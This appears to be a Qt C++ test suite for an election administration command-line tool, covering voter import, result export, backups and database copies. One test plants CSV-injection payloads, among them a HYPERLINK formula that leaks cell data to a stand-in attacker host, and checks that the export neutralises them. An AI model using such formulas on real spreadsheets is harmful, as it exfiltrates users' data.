// pollaris-admin as a separate process against elections in files and on a server:
// creating, importing voters, results, backups during voting, copies between engines.

#include "TestSupport.h"

#include "NewFile.h"
#include "screens/frmCountVotes.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLabel>
#include <QListWidget>
#include <QProcess>
#include <QScopeGuard>
#include <QStandardPaths>
#include <atomic>
#include <libpq-fe.h>
#include <memory>
#include <thread>

struct Run {
    int exitCode = -1;
    QString out, err;
};

// Runs the tool (or a copy of it elsewhere), with the given standard input.
static Run admin(const QStringList &args, const QByteArray &input = {}, QString tool = {})
{
    QProcess p;
    p.start(tool.isEmpty() ? qEnvironmentVariable("POLLARIS_ADMIN") : tool, args);
    p.write(input);
    p.closeWriteChannel();
    p.waitForFinished(60000);
    return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, QString::fromUtf8(p.readAllStandardOutput()),
            QString::fromUtf8(p.readAllStandardError())};
}

// A refusal: a failure exit, with the given words on standard error.
static bool refused(const Run &r, const QString &words) { return r.exitCode > 0 && r.err.contains(words); }

// The tool's arguments that name an election.
static QStringList at(const ElectionFolder &e)
{
    return e.onServer() ? QStringList{"--server", e.server()} : QStringList{e.file()};
}

// Every row of every table, in the order the rows were added.
static QStringList everything(const ElectionFolder &e)
{
    QStringList all;
    for (const char *table : {"Positions", "CandInfo", "CandVote", "Users", "Administrators"})
        all << table + e.rows(QStringLiteral("SELECT * FROM %1 ORDER BY rowid").arg(table)).join("\n");
    return all;
}

class AdminToolTest : public QObject {
    Q_OBJECT
    std::unique_ptr<ElectionFolder> db;

    QString csv(const QByteArray &bytes)
    {
        QFile f(db->folder() + "/voters.csv");
        return f.open(QIODevice::WriteOnly) && f.write(bytes) == bytes.size() ? f.fileName() : QString();
    }

private slots:
    void initTestCase() { QVERIFY2(QFile::exists(qEnvironmentVariable("POLLARIS_ADMIN")), "POLLARIS_ADMIN not set"); }
    void initTestCase_data() { addEngineRows(); }
    void init()
    {
        FETCH_ENGINE(engine);
        db = std::make_unique<ElectionFolder>(engine);
    }

    void newRefusesAnExistingElectionAndNoCommandCreatesAMissingOne()
    {
        Run r = admin(QStringList{"new", "--admin", "x", "--password", "y"} + at(*db));
        QVERIFY2(refused(r, db->onServer() ? "already holds an election" : "already exists"), qPrintable(r.err));
        QCOMPARE(db->rows("SELECT * FROM Administrators"), QStringList{"admin|secret"});
        // Nor does it follow a link, even one to nowhere.
        QVERIFY(QFile::link(db->folder() + "/pointed.mdb", db->folder() + "/link.mdb"));
        r = admin({"new", "--admin", "x", "--password", "y", db->folder() + "/link.mdb"});
        QVERIFY2(refused(r, "/link.mdb is a symbolic link"), qPrintable(r.err));
        QVERIFY(!QFile::exists(db->folder() + "/pointed.mdb"));

        if (db->onServer())
            db->exec("DROP TABLE Positions, CandInfo, CandVote, Users, Administrators");
        else
            QVERIFY(QFile::remove(db->file()));
        QCOMPARE(admin(QStringList{"new", "--admin", "boss", "--password", "pw"} + at(*db)).exitCode, 0);
        QCOMPARE(db->rows(db->onServer() ? "SELECT initcap(relname) FROM pg_class WHERE relkind = 'r' AND "
                                           "relnamespace = current_schema()::regnamespace ORDER BY 1"
                                         : "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"),
                 db->onServer() ? QStringList({"Administrators", "Candinfo", "Candvote", "Positions", "Users"})
                                : QStringList({"Administrators", "CandInfo", "CandVote", "Positions", "Users"}));
        QCOMPARE(db->rows("SELECT * FROM Administrators"), QStringList{"boss|pw"});

        // No command creates a missing election; "new" with no administrator is refused;
        // a password on the command line is refused before anything is sent.
        const QString missing = db->folder() + "/missing.mdb", copy = db->folder() + "/c.mdb";
        const QStringList nowhere =
            db->onServer() ? QStringList{"--server", db->server() + " dbname=pollaris_missing"} : QStringList{missing};
        const QString list = csv("Name,Student ID,Password\nAnn,1,p\n");
        for (const QStringList &args : {QStringList{"import-voters", list} + nowhere, QStringList{"results"} + nowhere,
                                        QStringList{"backup", copy} + nowhere, QStringList{"new"} + nowhere,
                                        QStringList{"results", "--server", db->server() + " password=pw"}})
            QVERIFY2(admin(args).exitCode > 0 && !QFile::exists(missing) && !QFile::exists(copy),
                     qPrintable(args.join(' ')));
        QCOMPARE(admin({"results", "--server", "postgresql://u:pw@localhost/x"}).err,
                 "pollaris-admin results: The connection string holds a password. Put the password in ~/.pgpass (or "
                 "the file PGPASSFILE names) or in a service file, never on the command line.\n");
    }

    void newThroughTheInstalledLinkMakesTheFileAtItsEndForOwnerAndGroupOnly()
    {
        if (db->onServer())
            QSKIP("the link is the file engine's");
        // As installed: the tool's default file is a link into the data folder.
        const QString bin = db->folder() + "/bin", data = db->folder() + "/data";
        const QString tool = bin + "/pollaris-admin", link = bin + "/candpos4.mdb";
        QVERIFY(QDir().mkdir(bin) && QDir().mkdir(data) && QFile::copy(qEnvironmentVariable("POLLARIS_ADMIN"), tool));
        QVERIFY(QFile::link(data + "/candpos4.mdb", link));
        const auto installed = [&](const QStringList &args) { return admin(args, {}, tool).exitCode; };
        QCOMPARE(installed({"new", "--admin", "boss", "--password", "pw"}), 0);
        const QFileInfo file(data + "/candpos4.mdb");
        QVERIFY(file.isFile() && !file.isSymLink() && QFileInfo(link).isSymLink());
        QCOMPARE(file.permissions() & ~(QFile::ReadUser | QFile::WriteUser),
                 QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::WriteGroup);
        QCOMPARE(installed({"results"}), 0);
        // A data folder that is missing: refused, and the link stays for the next try.
        QVERIFY(QDir(data).removeRecursively());
        QVERIFY(installed({"new", "--admin", "boss", "--password", "pw"}) > 0);
        QVERIFY(QFileInfo(link).isSymLink() && !QFile::exists(data));

        // The command line: no command is a usage fault, on standard error.
        Run r = admin({});
        QVERIFY(r.exitCode == 2 && r.out.isEmpty() && r.err.contains("Usage: pollaris-admin"));
        r = admin({"--version"});
        QVERIFY(r.exitCode == 0 && r.out.startsWith(QStringLiteral("pollaris-admin ")) && r.err.isEmpty());
    }

    void importsAGoodRowOrRefusesTheWholeFile_data()
    {
        QTest::addColumn<QByteArray>("row");
        QTest::addColumn<QString>("fault");
        QTest::newRow("good") << QByteArray("Jürgen Ärger,ÄB1,été") << QString();
        QTest::newRow("empty name") << QByteArray(",2026201,pw") << "name is empty";
        QTest::newRow("empty id") << QByteArray("Ann,,pw") << "student ID is empty";
        QTest::newRow("empty password") << QByteArray("Ann,2026201,\"\"") << "password is empty";
        QTest::newRow("long name") << (QByteArray(51, 'n') + ",2026201,pw") << "longer than 50";
        QTest::newRow("long id") << QByteArray("Ann,123456789012345678901,pw") << "longer than 20";
        QTest::newRow("two fields") << QByteArray("Ann,2026201") << "2 fields";
        QTest::newRow("registered, non-ASCII case") << QByteArray("Ann,äb,pw") << "already registered";
        QTest::newRow("repeated in file, other case") << QByteArray("Ann,GOOD-1,pw") << "repeats the one on line 2";
        QTest::newRow("unclosed quote") << QByteArray("Ann,2026201,\"pw") << "not closed";
        QTest::newRow("stray quote") << QByteArray("An\"n,2026201,pw") << "quote";
        QTest::newRow("nul") << QByteArray("ab\0cd,2026201,pw", 16) << "name holds a control character (U+0000)";
        QTest::newRow("tab") << QByteArray("Ann,2026\t201,pw") << "student ID holds a control character (U+0009)";
        QTest::newRow("line break") << QByteArray("Ann,2026201,\"p\nw\"")
                                    << "password holds a control character (U+000A)";
        QTest::newRow("escape") << QByteArray("\x1b[31mAnn,2026201,pw") << "control character (U+001B)";
    }

    void importsAGoodRowOrRefusesTheWholeFile()
    {
        QFETCH(QByteArray, row);
        QFETCH(QString, fault);
        db->exec("INSERT INTO Users VALUES ('Old', 'ÄB', 'x', true)");
        // Around line 4: a byte order mark, CRLF and LF, quoted comma and quotes, outer
        // blanks, a blank row.
        const QString list =
            csv("\xEF\xBB\xBFName,Student ID,Password\r\n\"Reyes, Maria\",good-1,\"say \"\"hi\"\"\"\r\n"
                " Two  Blanks , good-2,p2\n" +
                row + "\r\nlast,good-3,p3\n,,\n");
        Run r = admin(QStringList{"import-voters", list} + at(*db));
        if (fault.isEmpty())
            QVERIFY2(r.exitCode == 0 && r.out.contains("Imported 4") && r.out.contains("outer blanks of 2 field(s)"),
                     qPrintable(r.err));
        else
            QVERIFY2(r.exitCode > 0 && r.err.contains("line 4: ") && r.err.contains(fault) &&
                         r.err.contains("nothing was imported"),
                     qPrintable(r.err));
        QCOMPARE(db->rows("SELECT Name, Username, Password, HasVoted FROM Users ORDER BY rowid"),
                 fault.isEmpty()
                     ? QStringList({"Old|ÄB|x|1", "Reyes, Maria|good-1|say \"hi\"|0", "Two  Blanks|good-2|p2|0",
                                    "Jürgen Ärger|ÄB1|été|0", "last|good-3|p3|0"})
                     : QStringList{"Old|ÄB|x|1"});
    }

    void importReadsTheRegisterAsTheSchoolMeantIt()
    {
        const auto users = [this] { return db->rows("SELECT * FROM Users ORDER BY rowid"); };
        const auto import = [this](const QString &file) { return admin(QStringList{"import-voters", file} + at(*db)); };
        // No header: refused, so that its first voter is not taken for one.
        Run r = import(csv("Ann,1,p\nBo,2,q\n"));
        QVERIFY2(refused(r, db->folder() + "/voters.csv line 1: the first row must be the header naming the "
                                           "columns Name, Student ID (or Username) and Password"),
                 qPrintable(r.err));
        for (const QByteArray header : {"Name,Student ID,Student ID", "Name,Student ID", "Name,ID,Password"})
            QVERIFY(import(csv(header + "\nAnn,1,p\n")).err.contains("must be the header"));
        QCOMPARE(users(), QStringList());

        // Columns in another order, by other names, separated by semicolons, blank rows skipped.
        r = import(csv(" PASSWORD ;username; Name \r\n x1 ; A103 ;Ann Lee\r\n\r\n;;\r\npw2;B7;Bo\r\n;;\r\n"));
        QVERIFY2(r.exitCode == 0 && r.out.contains("Imported 2") && r.out.contains("outer blanks of 2 field(s)"),
                 qPrintable(r.err));
        QCOMPARE(users(), QStringList({"Ann Lee|A103|x1|0", "Bo|B7|pw2|0"}));

        // Not UTF-8: the line of the first bad byte; too many faults: 20 named, the rest counted.
        r = import(csv("Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n"));
        QVERIFY2(r.exitCode > 0 && r.err.contains("voters.csv line 3: the file is not UTF-8") &&
                     r.err.contains("\"CSV UTF-8\""),
                 qPrintable(r.err));
        r = import(csv("Name,Username,Password\n" + QByteArray("x,,p\n").repeated(25)));
        QVERIFY2(r.exitCode > 0 && r.err.count("student ID is empty") == 20 && r.err.contains("... and 5 more"),
                 qPrintable(r.err));
        // A file or a line too large is refused without reading it all.
        QFile huge(db->folder() + "/huge.csv");
        QVERIFY(huge.open(QIODevice::WriteOnly) && huge.write("Name,Username,Password\n") && huge.resize(65 << 20));
        QVERIFY(import(huge.fileName()).err.contains("huge.csv is larger than 64 MiB"));
        r = import("/dev/zero");
        QVERIFY2(refused(r, "/dev/zero line 1: the line is longer than 64 KiB"), qPrintable(r.err));
        QCOMPARE(users().size(), 2);

        // A long register shows its progress, in plain lines when not on a terminal.
        QByteArray many = "Name,Username,Password\n";
        for (int i = 0; i < 10001; ++i)
            many += "Voter " + QByteArray::number(i) + ",s" + QByteArray::number(i) + ",p\n";
        r = import(csv(many));
        QVERIFY2(r.exitCode == 0 && r.err.contains("importing 50% (5001 of 10001 rows)\n") &&
                     r.err.contains("importing 100% (10001 of 10001 rows)\n"),
                 qPrintable(r.err));
        QCOMPARE(users().size(), 10003);
    }

    void newTakesThePasswordFromStandardInputAndWarnsOfOneOnTheCommandLine()
    {
        if (db->onServer())
            QSKIP("the same for a server");
        QVERIFY(QFile::remove(db->file()));
        Run r = admin({"new", "--admin", "boss", "--password-stdin", db->file()}, "s3cret pass\r\n");
        QVERIFY(r.exitCode == 0 && r.err.isEmpty());
        QCOMPARE(db->rows("SELECT * FROM Administrators"), QStringList{"boss|s3cret pass"});

        QVERIFY(QFile::remove(db->file()));
        r = admin({"new", "--admin", "x", "--password", "y", db->file()});
        QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password can be read by other "
                                                   "users of this computer"),
                 qPrintable(r.err));
        // Nothing on standard input: nothing is made.
        QVERIFY(QFile::remove(db->file()));
        r = admin({"new", "--admin", "x", "--password-stdin", db->file()});
        QVERIFY2(refused(r, db->file() + ": no password on standard input"), qPrintable(r.err));
        QVERIFY(!QFile::exists(db->file()));
    }

    void csvNeverHandsASpreadsheetAFormula()
    {
        const QString chr = db->onServer() ? "chr" : "char";
        db->exec(QString("INSERT INTO Positions VALUES ('+P', '=1+1');"
                         "INSERT INTO CandInfo VALUES ('@A', '=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")', "
                         "'1', '+P'), ('B', '@SUM(1)', '2', '+P'), ('C', '-2+3', '3', '+P'), ('D', %1(9) || 'tab', '4',"
                         " '+P'), ('E', %1(13) || 'cr', '5', '+P'), ('F', 'Ann = Bo - 1', '6', '+P');"
                         "INSERT INTO CandVote VALUES ('@A', 6), ('B', 5), ('C', 4), ('D', 3), ('E', 2), ('F', -1)")
                     .arg(chr));
        QCOMPARE(admin(QStringList{"results", "--csv"} + at(*db)).out.split("\r\n"),
                 QStringList({"PosID,PosName,CandID,CandName,NumVotes",
                              "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
                              "'+P,'=1+1,B,'@SUM(1),5", "'+P,'=1+1,C,'-2+3,4", "'+P,'=1+1,D,'\ttab,3",
                              "'+P,'=1+1,E,\"'\rcr\",2", "'+P,'=1+1,F,Ann = Bo - 1,-1", ""}));
        QVERIFY(admin({"results", "--help"}).out.contains("leading '"));
    }

    void backupNeverOverwritesNorFollowsALink()
    {
        if (db->onServer())
            QSKIP("the copy's target is a file either way");
        const QString dir = db->folder();
        db->exec("INSERT INTO CandVote VALUES ('A', 0)");
        Run r = admin({"backup", dir + "/clean.mdb", db->file()});
        QVERIFY(r.exitCode == 0 && !r.out.contains("secret"));
        // A link, even one to nowhere, and a folder are refused by name; nothing is made.
        QVERIFY(QFile::link(dir + "/nowhere.mdb", dir + "/link.mdb") && QDir(dir).mkdir("sub"));
        r = admin({"backup", dir + "/link.mdb", db->file()});
        QVERIFY2(refused(r, dir + "/link.mdb is a symbolic link"), qPrintable(r.err));
        r = admin({"backup", dir + "/sub", db->file()});
        QVERIFY2(refused(r, dir + "/sub is a folder"), qPrintable(r.err));
        QCOMPARE(QDir(dir).entryList(QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot),
                 QStringList({"candpos4.mdb", "clean.mdb", "link.mdb", "sub"}));

        // Once voting has begun, the copy says it is as secret as the election.
        db->exec("UPDATE CandVote SET NumVotes = 1");
        r = admin({"backup", dir + "/voted.mdb", db->file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("already holds votes") &&
                     r.out.contains("as secret\nas the election itself"),
                 qPrintable(r.out));

        // Whatever appears at the target while the copy is written stays as it is.
        for (const QString &late : {QStringLiteral("file"), QStringLiteral("link")}) {
            const QString target = dir + "/late-" + late;
            const QString failure = NewFile::create(target, [&](const QString &partial) {
                QFile copy(partial), other(target);
                if (!copy.open(QIODevice::WriteOnly) || copy.write("copy") != 4)
                    return QStringLiteral("cannot write");
                if (late == "file" ? !other.open(QIODevice::WriteOnly) : !QFile::link(dir + "/elsewhere", target))
                    return QStringLiteral("cannot put something in the way");
                return QString();
            });
            QVERIFY2(failure.contains(target) && failure.contains("appeared while"), qPrintable(failure));
            QVERIFY(!QFile::exists(dir + "/elsewhere"));
        }
        QCOMPARE(QDir(dir).entryList({".*partial*"}, QDir::Files | QDir::Hidden), QStringList());
        QCOMPARE(QFileInfo(dir + "/late-file").size(), 0);
    }

    void statusAndReportReadTheElectionOnEitherEngine()
    {
        db->exec(QStringLiteral("INSERT INTO Positions VALUES ('P1', 'Head');"
                                "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Bo Li', '2', 'P1');"
                                "INSERT INTO CandVote VALUES ('A', 3), ('B', 5);"
                                "INSERT INTO Users VALUES ('Ann', 'u1', 'p', true), ('Bob', 'u2', 'p', false)"));
        const Run status = admin(QStringList{"status"} + at(*db));
        QVERIFY2(
            status.exitCode == 0 && status.out.contains(db->onServer() ? "Election server: " : "Election file: ") &&
                status.out.contains("Accounts registered:  2\n") &&
                status.out.contains("Logged in to vote:    1 (50.0%)") && status.out.contains("P1          8  Head"),
            qPrintable(status.out + status.err));
        const QString pdf = db->folder() + "/report.pdf";
        const Run report = admin(QStringList{"report", "--out", pdf} + at(*db));
        QVERIFY2(report.exitCode == 0 && QFileInfo(pdf).size() > 0, qPrintable(report.err));
        if (QStandardPaths::findExecutable("pdftotext").isEmpty())
            return;
        const QString read = admin({pdf, "-"}, {}, QStringLiteral("pdftotext")).out;
        QVERIFY2(read.contains(db->onServer() ? "Election server" : "SHA-256") && read.contains("Bo Li") &&
                     read.contains("Results report"),
                 qPrintable(read));
    }

    void resultsEqualTheResultsScreenAndTheirCsv()
    {
        // Codes in either case, a tally twice, a negative tally, a position with no candidates.
        db->exec(QStringLiteral(
            "INSERT INTO Positions VALUES ('P1', 'Head, \"Chief\"'), ('p2', 'Secretary'), ('P3', 'Nobody');"
            "INSERT INTO CandInfo VALUES ('A', 'Ana Cruz', '1', 'P1'), ('B', 'Li, Bo', '2', 'p1'), ('F', 'Fay', '6',"
            " 'P1'), ('C', 'Carla Villanueva de los Santos', '3', 'P1'), ('D', 'Dee', '4', 'P2'), ('E', 'Émile', '5',"
            " 'p2'); INSERT INTO CandVote VALUES ('A', 12), ('B', 40), ('C', 12), ('D', 0), ('E', 33000), ('b', 7),"
            " ('F', -1);"));
        startProgramOn(*db);
        frmCountVotes &screen = Shell::Show<frmCountVotes>();
        QString shown;
        for (const QString &code : db->rows("SELECT PosID FROM Positions ORDER BY rowid")) {
            screen.GetnDisplay(code);
            shown += (shown.isEmpty() ? "" : "\n") + screen.lblTitle->text().remove("Voting Results for ") + "\n";
            for (int i = 0; i < screen.lstResults->count(); ++i)
                shown += screen.lstResults->item(i)->text() + "\n";
        }
        Shell::reset();
        QCOMPARE(admin(QStringList{"results"} + at(*db)).out, shown);
        // The same ranking as comma-separated values, quoted where a text needs it.
        QCOMPARE(admin(QStringList{"results", "--csv"} + at(*db)).out.split("\r\n").mid(0, 3),
                 QStringList({"PosID,PosName,CandID,CandName,NumVotes", "P1,\"Head, \"\"Chief\"\"\",B,\"Li, Bo\",40",
                              "P1,\"Head, \"\"Chief\"\"\",A,Ana Cruz,12"}));
    }

    void backupIsConsistentWhileVotesAreWrittenAndNeverOverwrites()
    {
        if (db->onServer())
            QSKIP("a server's backup is a copy, tested with the copy");
        // Each vote marks a voter and moves one vote from B to A in one unit: a torn copy
        // breaks the sums. The copies go to this test's own file's place.
        ElectionFolder live;
        live.exec(QStringLiteral(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 40000)"
            " INSERT INTO Users SELECT 'Voter ' || i, 'S' || i, printf('%020d', i), 0 FROM n;"
            "INSERT INTO CandVote VALUES ('A', 0), ('B', 1000000); CREATE TRIGGER vote AFTER UPDATE OF HasVoted"
            " ON Users WHEN old.HasVoted = 0 BEGIN UPDATE CandVote SET NumVotes = NumVotes + 1 WHERE CandID = 'A';"
            " UPDATE CandVote SET NumVotes = NumVotes - 1 WHERE CandID = 'B'; END;"));
        std::atomic<int> written{0}, stop{0};
        std::thread writer([&] {
            for (int i = 1; !stop; ++i, ++written)
                live.exec(QStringLiteral("UPDATE Users SET HasVoted = 1 WHERE Username = 'S%1'").arg(i % 40000 + 1));
        });
        const auto joinWriter = qScopeGuard([&] { stop = 1, writer.join(); });
        const QString tally = QStringLiteral("SELECT NumVotes FROM CandVote WHERE CandID = 'A'");
        for (int k = 0; k < 3; ++k) {
            const int before = written;
            QTRY_VERIFY_WITH_TIMEOUT(written > before + 2, 20000); // votes go on between the copies
            QFile::remove(db->file());
            const Run copied = admin({"backup", db->file(), live.file()});
            QVERIFY2(copied.exitCode == 0, qPrintable(copied.err));
            QCOMPARE(db->rows("SELECT (SELECT * FROM pragma_integrity_check), sum(NumVotes), (SELECT count(*) FROM "
                              "Users), sum(CASE CandID WHEN 'A' THEN NumVotes END) = (SELECT count(*) FROM Users "
                              "WHERE HasVoted = 1) FROM CandVote"),
                     QStringList{"ok|1000000|40000|1"});
            QVERIFY(db->value(tally).toInt() > before);
        }
        // An existing copy is never overwritten.
        const int last = db->value(tally).toInt();
        Run r = admin({"backup", db->file(), live.file()});
        QVERIFY2(refused(r, QStringLiteral("already exists")), qPrintable(r.err));
        QCOMPARE(db->value(tally).toInt(), last);
        QCOMPARE(live.value("PRAGMA integrity_check").toString(), QStringLiteral("ok"));
    }

    // Server to new file and back to an empty database, every row and field in order;
    // nothing at a target is overwritten; a copy failing half-way leaves no tables.
    void copyBetweenFileAndServerBothWaysLosesNothing()
    {
        if (!db->onServer())
            QSKIP("needs both engines: runs in the server's row");
        db->exec("INSERT INTO Positions VALUES ('P1','Head, \"Chief\"'),('p2','Sécretary');"
                 "INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1'),('B',NULL,'2','p2');"
                 "INSERT INTO CandVote VALUES ('A',2147483647),('B',-1),('b',NULL);"
                 "INSERT INTO Users VALUES ('Ärger','ä1','pw',true),('N','n2',NULL,false),('F','f3','x',NULL);"
                 "DELETE FROM CandInfo WHERE CandID = 'A'; INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1')");
        const QStringList original = everything(*db);
        ElectionFolder file, backup;
        QVERIFY(QFile::remove(file.file()) && QFile::remove(backup.file()));
        Run r = admin({"copy", db->server(), file.file()});
        QVERIFY2(r.exitCode == 0 && r.out.contains("2 Positions, 2 CandInfo, 3 CandVote, 3 Users, 1 Administrators"),
                 qPrintable(r.err + r.out));
        QCOMPARE(everything(file), original);
        QCOMPARE(QDir(file.folder()).entryList(QDir::Files | QDir::Hidden), QStringList{"candpos4.mdb"});

        const QString link = file.folder() + "/link.mdb", linked = file.folder() + "/linked.mdb";
        QVERIFY(QFile::link(linked, link));
        for (const QStringList &args :
             {QStringList{"copy", db->server(), file.file()}, QStringList{"copy", db->server(), link},
              QStringList{"backup", "--server", db->server(), link}, QStringList{"copy", file.file(), db->server()}}) {
            r = admin(args);
            QVERIFY2(refused(r, args.last() == db->server() ? "already holds an election"
                                : args.last() == link       ? "is a symbolic link"
                                                            : "already exists"),
                     qPrintable(r.err));
        }
        QVERIFY(!QFile::exists(linked));
        QCOMPARE(everything(file), original);
        QCOMPARE(everything(*db), original);

        // Back to an empty database; a server's backup is a copy to a new file.
        const QString drop = "DROP TABLE Positions, CandInfo, CandVote, Users, Administrators";
        db->exec(drop);
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QCOMPARE(everything(*db), original);
        QCOMPARE(admin({"backup", "--server", db->server(), backup.file()}).exitCode, 0);
        QCOMPARE(everything(backup), original);

        // A value the server refuses (a flag of 2) stops the copy with no table made.
        file.exec("UPDATE Users SET HasVoted = 2 WHERE Username = 'n2'");
        db->exec(drop);
        r = admin({"copy", file.file(), db->server()});
        QVERIFY2(refused(r, "nothing was copied"), qPrintable(r.err));
        QCOMPARE(db->value("SELECT count(*) FROM pg_class WHERE relnamespace = current_schema()::regnamespace").toInt(),
                 0);
    }

    // A server's copy is one moment while a station writes: each write counts itself in
    // the position's name and the administrator's password, copied first and last.
    void copyOfAServerIsOneMomentWhileVotesAreWritten()
    {
        if (!db->onServer())
            QSKIP("the file's own backup is tested above");
        db->exec("INSERT INTO Users SELECT 'Voter ' || i, 'S' || i, 'p', false FROM generate_series(1, 20000) i;"
                 "INSERT INTO CandInfo SELECT 'C' || i, 'Name', 'S', 'P' FROM generate_series(1, 20000) i;"
                 "INSERT INTO Positions VALUES ('P', '0'); UPDATE Administrators SET AdminPassword = '0'");
        std::atomic<int> written{0}, stop{0};
        std::thread writer([&] { // a station of its own, writing as fast as it can
            PGconn *station = PQconnectdb(db->server().toUtf8().constData());
            for (; !stop && PQstatus(station) == CONNECTION_OK; ++written)
                PQclear(PQexec(station, "UPDATE Positions SET PosName = (PosName::int + 1)::text;"
                                        "UPDATE Administrators SET AdminPassword = (AdminPassword::int + 1)::text"));
            PQfinish(station);
        });
        const auto joinWriter = qScopeGuard([&] { stop = 1, writer.join(); });
        ElectionFolder file;
        for (int k = 0; k < 3; ++k) {
            const int before = written;
            QTRY_VERIFY_WITH_TIMEOUT(written > before + 2, 20000);
            QVERIFY(QFile::remove(file.file()));
            const Run r = admin({"copy", db->server(), file.file()});
            QVERIFY2(r.exitCode == 0, qPrintable(r.err));
            QCOMPARE(file.rows("SELECT PosName = (SELECT AdminPassword FROM Administrators), (SELECT count(*) FROM "
                               "CandInfo), (SELECT count(*) FROM Users) FROM Positions"),
                     QStringList{"1|20000|20000"});
            QVERIFY(file.value("SELECT CAST(PosName AS INTEGER) FROM Positions").toInt() > before);
        }
    }
};

POLLARIS_TEST_MAIN(AdminToolTest)
#include "tst_admintool.moc"
